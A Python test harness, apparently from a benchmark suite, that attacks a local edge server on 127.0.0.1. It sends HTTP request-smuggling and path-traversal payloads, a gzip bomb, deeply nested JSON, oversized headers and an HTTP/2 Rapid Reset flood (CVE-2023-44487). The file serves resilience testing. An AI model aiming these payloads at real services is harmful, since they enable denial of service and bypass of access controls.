"""Those who do harm in bench/edge.py: `python -m bench._edge_attacks KIND PORT CA RATE`, until ended.

CA is a file, for a listener with TLS, or `plain`. RATE is how many connections a second do harm, as far as
the other end lets them, of `rapid_reset` a twentieth. None of them has a key.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import socket
import ssl
import struct
import sys
import time
from typing import Final

import h2.config
import h2.connection
import h2.exceptions

_HEAD: Final = b"POST /execute HTTP/1.1\r\nHost: edge\r\nContent-Type: application/json\r\n"
_SMUGGLED: Final = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
_CLIENTS: Final = 20
_RESETS: Final = 100

SMUGGLING: Final = (
    _HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    _HEAD + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + _SMUGGLED,
    _HEAD + b"Transfer-Encoding: xchunked\r\n\r\n" + _SMUGGLED,
    _HEAD + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    _HEAD + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    _HEAD + b"Content-Length: +5\r\n\r\nhello" + _SMUGGLED,
    _HEAD + b"Transfer-Encoding: chunked\r\n\r\n5;x=\"\n\"\r\nhello\r\n0\r\n\r\n" + _SMUGGLED,
    b"GET /%2e%2e/metrics HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET //metrics HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /x/..%2fmetrics HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://other/metrics HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /metrics HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    b"GET /health HTTP/1.1\r\nHost: x\r\nX-Waymesh-Tenant: other\r\nx_api_key: a\r\n\r\n",
)  # fmt: skip


class Victim:
    """Where it goes."""

    def __init__(self, port: int, authority: str) -> None:
        self.port = port
        self.tls: ssl.SSLContext | None = None
        if authority != "plain":
            self.tls = ssl.create_default_context(cafile=authority)

    async def connect(self, alpn: str = "http/1.1") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A new connection."""
        if self.tls is None:
            return await asyncio.open_connection("127.0.0.1", self.port)
        self.tls.set_alpn_protocols([alpn])
        return await asyncio.open_connection(
            "127.0.0.1", self.port, ssl=self.tls, server_hostname="localhost"
        )


async def _send(victim: Victim, *pieces: bytes) -> None:
    """Each on a connection of its own; what comes back is read, and the connection ended."""
    for piece in pieces:
        reader, writer = await victim.connect()
        writer.write(piece)
        with contextlib.suppress(TimeoutError, OSError):
            async with asyncio.timeout(2):
                await writer.drain()
                await reader.read(65536)
        writer.close()


async def long_headers(victim: Victim) -> None:
    """64 KiB of them."""
    await _send(victim, b"GET /health HTTP/1.1\r\nHost: x\r\nX-Long: " + b"x" * (64 << 10) + b"\r\n\r\n")


_PACKED: Final = gzip.compress(b" " * (64 << 20), 9)
_NESTED: Final = b'{"task":"get_order","parameters":' + b"[" * (1 << 20)


async def bombs(victim: Victim) -> None:
    """64 MiB in 64 KiB, and brackets in brackets."""
    packed = b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(_PACKED) + _PACKED
    nested = b"Content-Length: %d\r\n\r\n" % len(_NESTED) + _NESTED
    await _send(victim, _HEAD + packed, _HEAD + nested)


async def smuggling(victim: Victim) -> None:
    """What two readers could read differently."""
    await _send(victim, *SMUGGLING)


async def rapid_connects(victim: Victim) -> None:
    """A request, and a reset before its answer."""
    _, writer = await victim.connect()
    raw = writer.get_extra_info("socket")
    writer.write(_HEAD + b"Content-Length: 2\r\n\r\n{}")
    await writer.drain()
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.transport.abort()


async def rapid_reset(victim: Victim) -> None:
    """HTTP/2 streams that are reset as soon as they are begun (CVE-2023-44487)."""
    reader, writer = await victim.connect("h2")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
    connection.initiate_connection()
    headers = [
        (b":method", b"GET"),
        (b":path", b"/health"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
    ]
    try:
        while True:
            for _ in range(_RESETS):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers, end_stream=True)
                connection.reset_stream(stream)
            writer.write(connection.data_to_send())
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.01):
                    data = await reader.read(65536)
                    if not data:
                        return
                    connection.receive_data(data)
    finally:
        writer.close()


# For how many of the connections asked for each time stands: it makes so many, or does as much harm as
# they since it begins 250 streams and more.
_STANDS_FOR: Final = {"bombs": 2, "smuggling": len(SMUGGLING), "rapid_reset": 20}
KINDS: Final = {
    attack.__name__: attack for attack in (long_headers, bombs, smuggling, rapid_connects, rapid_reset)
}


async def _again(kind: str, victim: Victim, every_s: float, begin_s: float) -> None:
    await asyncio.sleep(begin_s)
    while True:
        due = time.monotonic() + every_s
        with contextlib.suppress(OSError, EOFError, h2.exceptions.H2Error):
            await KINDS[kind](victim)
        await asyncio.sleep(max(0.0, due - time.monotonic()))


async def main(kind: str, port: int, authority: str, rate: float) -> None:
    victim = Victim(port, authority)
    gap_s = _STANDS_FOR.get(kind, 1) / rate
    # One after the other, not all at once.
    await asyncio.gather(*(_again(kind, victim, _CLIENTS * gap_s, n * gap_s) for n in range(_CLIENTS)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])))
